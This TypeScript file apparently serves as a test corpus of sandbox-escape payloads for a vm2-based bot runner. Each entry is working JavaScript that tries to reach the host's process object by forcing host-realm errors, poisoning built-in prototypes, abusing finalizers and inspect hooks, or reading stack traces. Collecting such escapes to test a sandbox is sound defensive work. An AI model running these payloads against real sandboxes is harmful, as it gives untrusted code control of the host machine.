import type { Escape } from "./escapes.ts";

/** Makes V8 write a stack whose error has a name that cannot be one: an error of the host's, where a sandbox does not look. */
const HOST_ERROR = `const e = new Error(); e.name = Symbol(); void e.stack;`;
const GET_OUT = `(caught) => { globalThis.leak ??= caught?.constructor?.constructor?.("return process")?.(); return caught; }`;

/** As `ESCAPES`, by what was found in the built-ins of newer JavaScript: promises, disposal, iterators, species, coercions. */
export const NEWER_ESCAPES: readonly Escape[] = [
  ...[
    ["an async function", `(async () => { ${HOST_ERROR} })()`],
    ["an async generator", `(async function* () { ${HOST_ERROR} })().next()`],
    [
      "a delegating async generator",
      `(async function* () { yield* { [Symbol.asyncIterator]() { ${HOST_ERROR} } }; })().next()`,
    ],
    [
      "the return of an async generator",
      `(async function* () { yield 1; })().return({ get then() { ${HOST_ERROR} } })`,
    ],
    ["an executor", `new Promise(() => { ${HOST_ERROR} })`],
    [
      "an executor of the built-in class",
      `new (Object.getPrototypeOf(globalThis.Promise) ?? globalThis.Promise)(() => { ${HOST_ERROR} })`,
    ],
    ["Promise.try", `Promise.try(() => { ${HOST_ERROR} })`],
    [
      "Promise.all of what throws when it is gone through",
      `Promise.all({ [Symbol.iterator]() { ${HOST_ERROR} } })`,
    ],
    [
      "Promise.all of the built-in class",
      `globalThis["Promise"].all({ [Symbol.iterator]() { ${HOST_ERROR} } })`,
    ],
    ["Promise.any of the built-in class", `globalThis["Promise"].any([{ get then() { ${HOST_ERROR} } }])`],
    ["Array.fromAsync", `Array.fromAsync({ get length() { ${HOST_ERROR} } })`],
    ["Array.fromAsync with a map", `Array.fromAsync([1], () => { ${HOST_ERROR} })`],
    ["Array.fromAsync of a subclass", `Array.fromAsync.call(class { constructor() { ${HOST_ERROR} } }, [1])`],
    ["a thenable", `Promise.resolve({ then() { ${HOST_ERROR} } })`],
    ["a thenable of the built-in class", `globalThis["Promise"].resolve({ then() { ${HOST_ERROR} } })`],
    ["finally", `Promise.resolve().finally(() => { ${HOST_ERROR} })`],
    ["finally of the built-in class", `globalThis["Promise"].resolve().finally(() => { ${HOST_ERROR} })`],
    [
      "an AsyncDisposableStack",
      `(() => { const s = new AsyncDisposableStack(); s.defer(() => { ${HOST_ERROR} }); s.defer(() => { ${HOST_ERROR} }); return s.disposeAsync(); })()`,
    ],
    [
      "an async iterator's helper",
      `(async () => { for await (const x of { [Symbol.asyncIterator]: () => ({ next() { ${HOST_ERROR} } }) }) void x; })()`,
    ],
  ].map(([name, code]) => ({
    name: `an error of the host's in ${name}`,
    code: `return Promise.resolve(${code}).then(${GET_OUT}, ${GET_OUT}).then(() => globalThis.leak);`,
  })),
  ...[
    ["a catch", HOST_ERROR],
    ["a deep stack", `const dive = () => { try { dive(); } catch { ${HOST_ERROR} } }; dive();`],
    [
      "a DisposableStack",
      `const s = new DisposableStack(); s.defer(() => { ${HOST_ERROR} }); s.defer(() => { ${HOST_ERROR} }); s.dispose();`,
    ],
    ["a sort", `[1, 2].sort(() => { ${HOST_ERROR} });`],
    ["a replacement", `"x".replace(/x/, () => { ${HOST_ERROR} });`],
    ["a reviver", `JSON.parse("[1]", () => { ${HOST_ERROR} });`],
    ["a coercion", `\`\${{ toString() { ${HOST_ERROR} } }}\`;`],
    [
      "a species",
      `class A extends Array { static get [Symbol.species]() { ${HOST_ERROR} } } new A(1).map((x) => x);`,
    ],
    [
      "an iterator that is closed",
      `const [x] = { [Symbol.iterator]: () => ({ next: () => ({ value: 1, done: false }), return() { ${HOST_ERROR} } }) };`,
    ],
    ["an iterator's helper", `Iterator.from([1]).map(() => { ${HOST_ERROR} }).toArray();`],
    ["a class", `class A { static x = (() => { ${HOST_ERROR} })(); }`],
    [
      "a generator that is thrown at",
      `const g = (function* () { try { yield; } finally { ${HOST_ERROR} } })(); g.next(); g.throw(new Error());`,
    ],
    [
      "a regular expression",
      `RegExp.prototype[Symbol.replace].call({ get flags() { ${HOST_ERROR} } }, "x", "y");`,
    ],
    ["a date", `Date.prototype[Symbol.toPrimitive].call({ get toString() { ${HOST_ERROR} } }, "string");`],
    ["a format", `new Intl.NumberFormat("en", { get style() { ${HOST_ERROR} } });`],
    ["a collator", `["a", "b"].sort(new Intl.Collator({ toString() { ${HOST_ERROR} } }).compare);`],
    ["a big integer", `BigInt({ [Symbol.toPrimitive]() { ${HOST_ERROR} } });`],
    ["a view", `new DataView({ get buffer() { ${HOST_ERROR} } });`],
    ["a cause", `throw new Error("x", { get cause() { ${HOST_ERROR} } });`],
  ].map(([name, code]) => ({
    name: `an error of the host's in ${name}`,
    code: `let caught; try { ${code} } catch (error) { caught = error; }
      const all = [caught, ...(caught?.errors ?? []), caught?.error, caught?.suppressed, caught?.error?.suppressed, caught?.cause];
      for (const one of all) { const out = one?.constructor?.constructor?.("return process")?.(); if (out) return out; }`,
  })),
  {
    name: "the name of vm2's own state",
    code: `return globalThis["VM2_INTERNAL_STATE_" + "DO_NOT_USE_OR_PROGRAM_WILL_FAIL"] && process;`,
  },
  {
    name: "descriptors from Object.prototype",
    code: `Object.prototype.get = function () { globalThis.leak ??= this; }; try { bot.now(); bot.log.info("x", {}); } finally { delete Object.prototype.get; } return globalThis.leak?.constructor?.constructor("return process")();`,
  },
  {
    name: "then on Object.prototype",
    code: `Object.defineProperty(Object.prototype, "then", { configurable: true, get() { globalThis.leak ??= this?.process ?? this?.constructor?.constructor?.("return process")?.(); } });
      const back = () => { delete Object.prototype.then; return globalThis.leak; }; return Promise.resolve({}).then(back, back);`,
  },
  {
    name: "indices on Array.prototype while something crosses",
    code: `for (const i of [0, 1, 2, 3]) Object.defineProperty(Array.prototype, i, { configurable: true, set(value) { globalThis.leak ??= value?.constructor?.constructor?.("return process")?.(); } });
      try { setTimeout(() => {}, 1); bot.log.info("x", { a: [1] }); void new Error().stack; } finally { for (const i of [0, 1, 2, 3]) delete Array.prototype[i]; } return globalThis.leak;`,
  },
  {
    name: "a subclass of promises with a species",
    code: `let caught; class P extends globalThis["Promise"] { static get [Symbol.species]() { return class { constructor(executor) { executor(() => {}, (error) => { caught = error; }); } }; } }
      new P(() => { ${HOST_ERROR} }).then(() => {}); return new Promise((resolve) => setTimeout(() => resolve(caught?.constructor?.constructor("return process")()), 1));`,
  },
  {
    name: "a finalizer",
    code: `new FinalizationRegistry((held) => { globalThis.leak = held.constructor.constructor("return process")(); }).register({}, {}); return globalThis.leak;`,
  },
  {
    name: "Symbol.for in other spellings",
    code: `const inspect = Symbol.for(new String("nodejs.util.inspect.custom")); const o = { [inspect]: (_d, _o, i) => { globalThis.leak = i; } }; bot.log.info("x", { o }); return globalThis.leak?.constructor.constructor("return process")();`,
  },
  {
    name: "the prototype of functions that cross",
    code: `for (const f of [bot.send, bot.now, setTimeout, console.log, queueMicrotask, Math.random, Date.now]) { const out = Object.getPrototypeOf(f).constructor.call(null, "return process"); if (out) return out(); }`,
  },
  {
    name: "what a stack says of files of the host's",
    code: `const text = [new Error().stack, (() => { try { null.x; } catch (e) { return e.stack; } })()].join(); return /node:internal|runner\\.cjs|node_modules\\/vm2/.test(text) ? { pid: 1 } : undefined;`,
  },
  {
    name: "Error.stackTraceLimit and call sites",
    code: `const before = Error.prepareStackTrace; Error.stackTraceLimit = Infinity; Error.prepareStackTrace = (_e, sites) => sites.map((s) => [s.getFileName?.(), s.getEvalOrigin?.(), s.getScriptNameOrSourceURL?.()]).flat();
      try { return new Error().stack.some((file) => /node:|runner/.test(String(file))) ? { pid: 1 } : undefined; } finally { Error.prepareStackTrace = before; Error.stackTraceLimit = 30; }`,
  },
];
